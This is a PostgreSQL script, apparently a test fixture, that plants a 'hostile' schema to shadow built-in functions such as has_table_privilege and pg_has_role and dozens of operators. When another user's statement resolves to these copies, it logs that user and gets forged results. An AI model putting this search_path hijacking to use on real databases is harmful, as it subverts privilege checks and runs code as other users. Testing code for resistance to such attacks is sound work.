-- What the owner of a database, or whoever may create in a schema of it, can do so
-- that a statement of somebody else calls code of his: functions and operators of
-- the same names that fit as well or better.
CREATE SCHEMA IF NOT EXISTS hostile;
GRANT USAGE ON SCHEMA hostile TO public;
CREATE TABLE IF NOT EXISTS hostile.calls (name text, who text);
GRANT INSERT ON hostile.calls TO public;

CREATE OR REPLACE FUNCTION hostile.body(name text, result text) RETURNS text LANGUAGE sql AS $$
	SELECT pg_catalog.format(
		'BEGIN INSERT INTO hostile.calls VALUES (%L, current_user); RETURN %s; END',
		name, CASE result WHEN 'boolean' THEN 'true' WHEN 'void' THEN '' ELSE 'NULL' END)
$$;

CREATE OR REPLACE FUNCTION hostile.shadow(target text) RETURNS int LANGUAGE plpgsql SET search_path = pg_catalog AS $$
DECLARE
	f record;
	n int := 0;
BEGIN
	EXECUTE format('CREATE SCHEMA IF NOT EXISTS %I; GRANT USAGE ON SCHEMA %1$I TO public', target);
	FOR f IN
		SELECT p.proname, pg_get_function_identity_arguments(p.oid) AS args, pg_get_function_result(p.oid) AS result
		FROM pg_proc p JOIN pg_namespace s ON s.oid = p.pronamespace
		WHERE s.nspname = 'pg_catalog' AND p.prokind = 'f' AND NOT p.proretset
		AND p.proname IN ('pg_backend_pid', 'pg_is_in_recovery', 'set_config', 'current_setting', 'pg_get_userbyid',
			'now', 'date_trunc', 'timezone', 'to_regclass', 'hashtext', 'pg_notify', 'pg_try_advisory_lock',
			'pg_advisory_unlock', 'current_database', 'has_table_privilege', 'has_column_privilege',
			'has_any_column_privilege', 'has_schema_privilege', 'pg_has_role', 'row_security_active', 'host',
			'pg_terminate_backend', 'convert_to', 'length', 'left', 'lower', 'octet_length')
		AND NOT EXISTS (SELECT FROM unnest(array_append(p.proargtypes::oid[], p.prorettype)) AS t (oid)
			JOIN pg_type y ON y.oid = t.oid WHERE y.typtype = 'p' AND y.typname <> 'void')
	LOOP
		EXECUTE format('CREATE OR REPLACE FUNCTION %I.%I(%s) RETURNS %s LANGUAGE plpgsql AS %L',
			target, f.proname, f.args, f.result, hostile.body(f.proname, f.result));
		n := n + 1;
	END LOOP;
	FOR f IN
		SELECT o.name, l.t AS l, r.t AS r
		FROM unnest(ARRAY['=', '<>', '<', '>', '<=', '>=', '~~', '||', '-', '+', '->', '->>']) AS o (name),
			unnest(ARRAY['text', 'varchar', 'name', 'int4', 'int8', 'int2', 'oid', 'bool', '"char"', 'timestamp',
				'timestamptz', 'interval', 'jsonb', 'xid', 'regclass']) AS l (t),
			unnest(ARRAY['text', 'varchar', 'name', 'int4', 'int8', 'int2', 'oid', 'bool', '"char"', 'timestamp',
				'timestamptz', 'interval', 'jsonb', 'xid', 'regclass']) AS r (t)
	LOOP
		EXECUTE format('CREATE OR REPLACE FUNCTION %I.%I(a %s, b %s) RETURNS bool LANGUAGE plpgsql AS %L',
			target, 'op ' || f.name, f.l, f.r, hostile.body(f.l || ' ' || f.name || ' ' || f.r, 'boolean'));
		EXECUTE format('DROP OPERATOR IF EXISTS %I.%s (%s, %s)', target, f.name, f.l, f.r);
		EXECUTE format('CREATE OPERATOR %1$I.%2$s (FUNCTION = %1$I.%3$I, LEFTARG = %4$s, RIGHTARG = %5$s)',
			target, f.name, 'op ' || f.name, f.l, f.r);
		n := n + 1;
	END LOOP;
	RETURN n;
END
$$;
